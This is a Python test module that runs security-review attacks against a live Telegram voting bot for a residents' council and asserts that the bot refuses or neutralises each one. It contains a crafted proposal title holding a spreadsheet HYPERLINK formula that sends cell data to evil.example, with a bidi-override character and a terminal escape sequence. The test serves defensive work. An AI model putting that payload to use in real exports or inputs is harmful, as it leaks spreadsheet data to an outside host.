"""The attacks of the trust review, run against a real `yishi run` process on each runtime.

The in-process suites (test_mandate, test_input, test_secrecy, test_ledger) cover every case in
detail; this module replays the headline attacks the way an attacker meets the product: through
Telegram (the fake Bot API) to a bot started as an operator starts it, then reads the database and
the command-line export as someone holding them would.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.storage.models import Ballot, ChatRoom, LedgerEntry, Proposal, Vote
from tests.support.live import GROUP, MODERATOR, OTHER_GROUP, OWNERS, ROOM_ADMIN, LiveBot, live_bot

REFUSED = "Only moderators of the residents' council can do that."
TITLE_ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"x") lift\u202e\x1b[31m'


async def _counts(bot: LiveBot) -> tuple[int, int, int, str, str]:
    async with bot.db.uow(readonly=True) as uow:
        ledger = (await uow.session.execute(select(func.count()).select_from(LedgerEntry))).scalar_one()
        ballots = (await uow.session.execute(select(func.count()).select_from(Ballot))).scalar_one()
        votes = (await uow.session.execute(select(func.count()).select_from(Vote))).scalar_one()
        state = (await uow.session.execute(select(Proposal.state).where(Proposal.id == 1))).scalar_one()
        scope = (await uow.session.execute(
            select(ChatRoom.scope).where(ChatRoom.chat_id == str(GROUP)))).scalar_one()
    return int(ledger), int(ballots), int(votes), state, scope


async def _quiet_after(bot: LiveBot, user: int, chat: int, text: str) -> list[str]:
    """Send ``text``, then a harmless command; the bot's messages between the two (none, if ignored)."""
    first = bot.fake.send_text(user, chat, text)
    probe = bot.fake.send_text(user, chat, "/proposals")
    await bot.fake.wait_for_message(chat, lambda m: m.from_bot, 15, after=probe.message_id)
    return [m.text or "" for m in bot.bot_messages(chat, lambda m: first.message_id < m.message_id < probe.message_id)]


def _export_csv(bot: LiveBot) -> list[dict[str, str]]:
    env = {**os.environ, "DATABASE_URL": bot.database_url}
    import subprocess

    done = subprocess.run([sys.executable, "-m", "bot", "export", "--format", "csv"], cwd=bot.workdir, env=env,
                          capture_output=True, text=True, timeout=120, check=True)
    return list(csv.DictReader(io.StringIO(done.stdout)))


@pytest.mark.parametrize("runtime", ["aiogram", "ptb"])
async def test_attacks_on_a_running_bot(tmp_path: Path, database_url: str, runtime: str) -> None:
    async with live_bot(tmp_path, runtime, database_url) as bot:
        await bot.register_owners(["101", "201", "301", "401", "501"])
        await bot.bind_group()
        await bot.bind_group(OTHER_GROUP, "3-1")
        card = await bot.say(OWNERS["101"], GROUP, f"/propose {TITLE_ATTACK}")
        assert "#1" in (card.text or "")
        assert "\u202e" not in (card.text or "") and "\x1b" not in (card.text or "")
        for room in ("201", "301", "401", "501"):  # five households: the threshold
            await bot.press(OWNERS[room], GROUP, card, bot.button(card, "v1:s:"))
        before = await _counts(bot)

        # A Telegram admin of both rooms who is not on the council: every community power refused,
        # in the other unit's room and in the matter's own room, and nothing changes.
        for chat in (OTHER_GROUP, GROUP):
            for command in ("/accept 1", "/decline 1 no", "/vote 1 elevator 7d", "/close 1",
                            "/paper 1 3-2-101 no 我说了算", "/bind all", "/objection 1", "/progress 1 done"):
                reply = await bot.personal(ROOM_ADMIN, chat, command)  # refusals are personal
                assert REFUSED in (reply.text or ""), (chat, command, reply.text)
        assert await _counts(bot) == before

        # The council opens a vote; an owner votes; the room admin's forged page button and a
        # command addressed to another bot change nothing.
        assert "议程" in ((await bot.say(MODERATOR, GROUP, "/accept 1")).text or "")  # the room's language
        ballot = await bot.say(MODERATOR, GROUP, "/vote 1 elevator 7d")
        assert "0/12" in (ballot.text or "")
        toast = await bot.press(OWNERS["101"], GROUP, ballot, bot.button(ballot, "v1:b:1:y"))
        assert "Recorded: Yes" in toast
        await bot.fake.wait_for(lambda: "1/12" in (bot.fake.message(GROUP, ballot.message_id).text or ""), 15)
        shown = bot.fake.message(GROUP, ballot.message_id).text
        query = bot.fake.press_button(ROOM_ADMIN, GROUP, ballot.message_id, "v1:pg:0", forged=True)
        answer = await bot.fake.wait_for_callback_answer(query, timeout=15)
        assert "no longer valid" in (answer.text or "")
        assert await _quiet_after(bot, MODERATOR, GROUP, "/close@some_other_bot 1") == []
        async with bot.db.uow(readonly=True) as uow:
            assert (await uow.session.execute(select(Vote.status).where(Vote.id == 1))).scalar_one() == "open"
        assert bot.fake.message(GROUP, ballot.message_id).text == shown

        # A deep link that overflows any id column.
        bad = await bot.say(OWNERS["201"], OWNERS["201"], "/start vote_99999999999999999999")
        assert "This link is not valid." in (bad.text or "")

        # Whoever holds the export cannot be tricked by a formula in a title.
        rows = await asyncio.to_thread(_export_csv, bot)
        assert rows[0]["title"].startswith("'=HYPERLINK(")
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell)

        await bot.terminate()
        assert "Traceback" not in bot.logs()
